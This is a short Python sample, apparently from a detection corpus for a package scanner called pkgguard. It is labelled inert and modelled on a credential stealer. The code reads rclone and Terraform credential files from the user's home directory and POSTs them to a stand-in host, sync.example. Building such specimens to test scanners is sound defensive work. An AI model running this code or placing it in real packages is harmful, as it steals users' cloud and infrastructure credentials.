# pkgguard corpus 239 (credentials), modelled on [stealer-profile]; inert, never run.
import http.client
import json
from pathlib import Path

home = Path.home()
found = {}
for rel in (".config/rclone/rclone.conf", ".terraform.d/credentials.tfrc.json"):
    p = home / rel
    if p.is_file():
        found[rel] = p.read_text(errors="ignore")
conn = http.client.HTTPSConnection("sync.example", timeout=5)
conn.request("POST", "/v2/state", body=json.dumps(found), headers={"Content-Type": "application/json"})
